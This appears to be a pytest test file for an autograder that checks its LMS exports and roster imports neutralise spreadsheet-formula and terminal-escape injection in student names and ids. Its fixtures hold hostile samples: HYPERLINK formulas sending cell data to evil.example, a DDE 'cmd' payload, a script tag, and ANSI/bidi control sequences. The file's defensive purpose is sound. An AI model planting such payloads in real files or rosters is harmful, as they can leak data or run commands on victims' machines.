"""Text from students and rosters in the exports and pushes: no spreadsheet formula, no terminal escape.

Names, sections and emails reach the gradebook from LMS rosters (students edit their own display names)
or from `nbgrader db`, and student ids from folder names. An instructor opens the exports in a
spreadsheet before uploading them, and reads the push report in a terminal.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from autograder.lms.format_names import FORMAT_NAMES
from autograder.lms.identity import Person, save_people
from autograder.lms.table import FORMULA_START
from tests.lms.conftest import HSA, RUE, Course, run_cli

# For the terminal and the LMS comments: screen clear, CR, a right-to-left override, rich markup, HTML.
TERMINAL_HOSTILE = "mal\x1b[2J\rALL SENT\u202e[red]x<script>alert(1)</script>"
TERMINAL_SHOWN = "mal\\x1b[2J\\rALL SENT\\u202e[red]x<script>alert(1)</script>"
# What a push comment is made of: exercise labels (grade cells of the instructor's source notebook) with
# points (or "to be graded": a cell nbgrader marks as waiting for a person, with no score yet), the late penalty
# and the total; nothing a student or a roster wrote.
PART = r"[a-z0-9_]+ ([\d.]+|to be graded)/[\d.]+"
# The LTI comment (the outbox's, lms/outbox.py) names the attempt by its time first.
ATTEMPT = r"attempt (\d{4}-\d\d-\d\d \d\d:\d\d UTC|without a time): "
COMMENT = re.compile(rf"({ATTEMPT})?{PART}(, {PART})*(; late penalty -[\d.]+)?; total [\d.]+/[\d.]+")
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]  # OWASP's list; a cell starting with one is a formula


def hostile(char: str) -> dict[str, str]:
    """ada's names and section, each a formula (the last name also hides one behind a `;` separator)."""
    return {"first_name": f'{char}HYPERLINK("http://evil.example/?"&A1,"Ada")',
            "last_name": f"{char}1+1;=cmd|' /C calc'!A0", "section": f"{char}SUM(A1:A9)"}


def as_written(text: str) -> str:
    """A hostile cell as every export writes it: a leading tab or CR written out as the terminal shows it
    (then it starts no formula), else a formula's first character behind a `'`."""
    if text[0] in "\t\r":
        return text.replace("\t", "\\t").replace("\r", "\\r")
    return "'" + text


def store(course: Course, *people: Person) -> None:
    """Write identities straight into the gradebook, as `nbgrader db student add` or an LMS sync would."""
    with course.gradebook() as gb:
        save_people(gb, list(people))


def export_rows(fmt: str, *extra: str) -> tuple[str, list[list[str]]]:
    assert run_cli("export", HSA, RUE, "--to", fmt, *extra) == 0
    with open(f"exports/{fmt}.csv", newline="", encoding="utf-8") as handle:
        text = handle.read()
    return text, list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(text: str) -> None:
    """Every cell below the header is a number or starts with something a spreadsheet shows as text, read
    with our separator and with `;` and tab, which spreadsheets use in other locales: there they honour
    quotes around a whole field only, as Python's csv module does."""
    for delimiter in ",;\t":
        for row in list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1:]:
            for value in row:
                if value.startswith(FORMULA_START):
                    float(value)  # only a number may start with "-" (a score, never text)


@pytest.mark.parametrize("char", TRIGGERS)
@pytest.mark.parametrize("fmt", FORMAT_NAMES)
def test_names_and_sections_are_neutralised_in_every_format(in_course: Course, fmt: str, char: str) -> None:
    fields = hostile(char)
    store(in_course, Person(id="ada", **fields))
    text, rows = export_rows(fmt)
    assert_no_formula(text)
    cells = {value for row in rows[1:] for value in row}
    first, last = as_written(fields["first_name"]), as_written(fields["last_name"].replace(";=", ";'="))
    written = {"canvas": [f"{last}, ", as_written(fields["section"])],  # the name is `Last, First`
               "moodle": [first, last],
               "blackboard": [first, last],
               "brightspace": [],  # holds no names: only the ids it matches on, behind a "#"
               "csv": [first, last]}[fmt]
    for value in written:
        assert any(cell.startswith(value) for cell in cells), f"{value!r} missing"
    # What the LMS matches ada on is unchanged.
    key = {"canvas": "1001", "moodle": "ada@uni.example", "blackboard": "ada", "brightspace": "#ada",
           "csv": "ada"}[fmt]
    assert key in cells


@pytest.mark.parametrize("char", TRIGGERS)
def test_breakdown_neutralises_ids_and_emails_no_lms_matches_on(in_course: Course, char: str) -> None:
    # A student whose folder name, and so nbgrader id, is a formula; the breakdown lists everyone.
    student = f"{char}HYPERLINK(\"http://evil.example\")"
    with in_course.gradebook() as gb:
        gb.add_student(student)
    store(in_course, Person(id=student, email=f"{char}1@evil.example"), Person(id="bob", email=f"{char}bob"))
    text, rows = export_rows("csv")
    assert_no_formula(text)
    ids = [row[0] for row in rows[1:]]
    emails = [row[3] for row in rows[1:]]
    assert ids.count(as_written(student)) == 2 and emails.count(as_written(f"{char}1@evil.example")) == 2
    assert emails.count(as_written(f"{char}bob")) == 2


@pytest.mark.parametrize("fmt", FORMAT_NAMES)
def test_control_characters_are_written_out_in_every_format_spaces_are_kept(in_course: Course, fmt: str) -> None:
    # A screen clear, a CR that overwrites the line, a right-to-left override, a line separator: raw in the
    # file, `cat exports/x.csv` ran them. An ideographic space is text (a Japanese name).
    store(in_course, Person(id="ada", first_name="mal\x1b[2J\rALL SENT\u202e", last_name="山田\u3000x\u2028y",
                            section="A\x07"))
    text, rows = export_rows(fmt)
    assert not any(char in text for char in ("\x1b", "\u202e", "\u2028", "\x07")), repr(text)
    assert "\r" not in text.replace("\r\n", ""), "CR only in the CSV's own line ends"
    cells = {value for row in rows[1:] for value in row}
    if fmt != "brightspace":  # holds no names
        assert any("mal\\x1b[2J\\rALL SENT\\u202e" in c for c in cells), cells
        assert any("山田\u3000x\\u2028y" in c for c in cells), cells


@pytest.mark.parametrize("fmt, person, column, why", [
    ("canvas", Person(id="ada", sis_user_id="S\x1b[2J1"), "SIS User ID", "control characters"),
    ("moodle", Person(id="bob", email="bob\u202e@uni.example"), "Email address", "control characters"),
    ("blackboard", Person(id="cyd", login_id="cyd\r"), "Username", "control characters"),
    ("canvas", Person(id="ada", sis_user_id="-S1"), "SIS User ID", "formula"),
    ("canvas", Person(id="ada", login_id="@ada"), "SIS Login ID", "formula"),
    ("moodle", Person(id="bob", email="=bob@uni.example"), "Email address", "formula"),
    ("blackboard", Person(id="cyd", login_id="+cyd"), "Username", "formula"),
])
def test_an_identifier_the_lms_matches_on_that_is_unsafe_is_refused_not_changed(
        in_course: Course, capsys, fmt: str, person: Person, column: str, why: str) -> None:
    """Control characters, or a leading character a spreadsheet reads as a formula: refused in one line."""
    store(in_course, person)
    assert run_cli("export", HSA, "--to", fmt) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and column in err and why in err
    assert "\x1b[" not in err and "Traceback" not in err
    assert not (in_course.root / "exports" / f"{fmt}.csv").exists()


HEAD = "id,first_name,last_name,email,lms_user_id,sis_user_id,login_id,section,lti_user_id\n"
GOOD = ["eve", "Eve", "Ito", "eve@uni.example", "u1005", "S-0005", "eve", "Section A", "lti-eve"]


@pytest.mark.parametrize("char", ["=", "+", "-", "@", "\t=", "\r@"])  # a leading tab or CR is stripped first
@pytest.mark.parametrize("column, name", [(0, "student_id"), (3, "email"), (4, "lms_user_id"),
                                          (5, "sis_user_id"), (6, "login_id"), (8, "lti_user_id")])
def test_roster_import_refuses_an_identity_that_is_a_formula(in_course: Course, capsys, char: str,
                                                             column: int, name: str) -> None:
    values = list(GOOD)
    values[column] = f"{char}{values[column]}"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(values)  # with CRLF, a CR in a field is quoted
    (in_course.root / "bad.csv").write_text(HEAD + "ada,Ada,Lovelace,ada@uni.example,1001,,,,\n" + buffer.getvalue())
    assert run_cli("roster", "import", "bad.csv") == 1
    err = capsys.readouterr().err
    line = 4 if "\r" in char else 3  # the quoted CR ends a line: the record ends on the next
    assert err.count("\n") == 1 and f"bad.csv line {line}: {name} " in err and "formula" in err
    with in_course.gradebook() as gb:
        assert "eve" not in {s.id for s in gb.students} and "=eve" not in {s.id for s in gb.students}


def test_roster_import_keeps_names_and_sections_as_they_are(in_course: Course) -> None:
    # Not what an LMS matches on: stored as written, and neutralised in each export (above).
    # A line separator inside a quoted name is part of the name, not the end of a line.
    (in_course.root / "r.csv").write_text(HEAD + 'eve,=Eve,"-I\u2028to",eve@uni.example,1005,,,@A,\n')
    assert run_cli("roster", "import", "r.csv") == 0
    with in_course.gradebook() as gb:
        eve = gb.find_student("eve")
        assert (eve.first_name, eve.last_name) == ("=Eve", "-I\u2028to")


def test_roster_names_replace_the_id_a_watcher_named_a_student_by(in_course: Course) -> None:
    """The gradebook writer names a student it adds by their id (last name id, first name empty): a roster
    that knows only a first name leaves no id behind as the last name."""
    with in_course.gradebook() as gb:
        gb.add_student("zoe", first_name="", last_name="zoe")
    store(in_course, Person(id="zoe", first_name="Zoë"))
    with in_course.gradebook() as gb:
        zoe = gb.find_student("zoe")
        assert (zoe.first_name, zoe.last_name) == ("Zoë", "")


def add_hostile_students(course: Course) -> None:
    """ada's names and section turn hostile, and a submitter with a hostile id and LMS ids joins the class."""
    store(course, Person(id="ada", first_name=TERMINAL_HOSTILE, last_name=TERMINAL_HOSTILE,
                         section=TERMINAL_HOSTILE))
    with course.gradebook() as gb:
        gb.add_student(TERMINAL_HOSTILE, first_name=TERMINAL_HOSTILE, email=f"{TERMINAL_HOSTILE}@x")
        gb.add_submission(HSA, TERMINAL_HOSTILE)
    store(course, Person(id=TERMINAL_HOSTILE, lms_user_id=TERMINAL_HOSTILE, lti_user_id=TERMINAL_HOSTILE))


def assert_terminal_safe(text: str) -> None:
    assert not any(char in text for char in ("\x1b", "\r", "\u202e")), text
    assert TERMINAL_SHOWN in text


def assert_comments_hold_no_student_text(comments: list[str]) -> None:
    assert comments
    for comment in comments:
        assert COMMENT.fullmatch(comment), comment
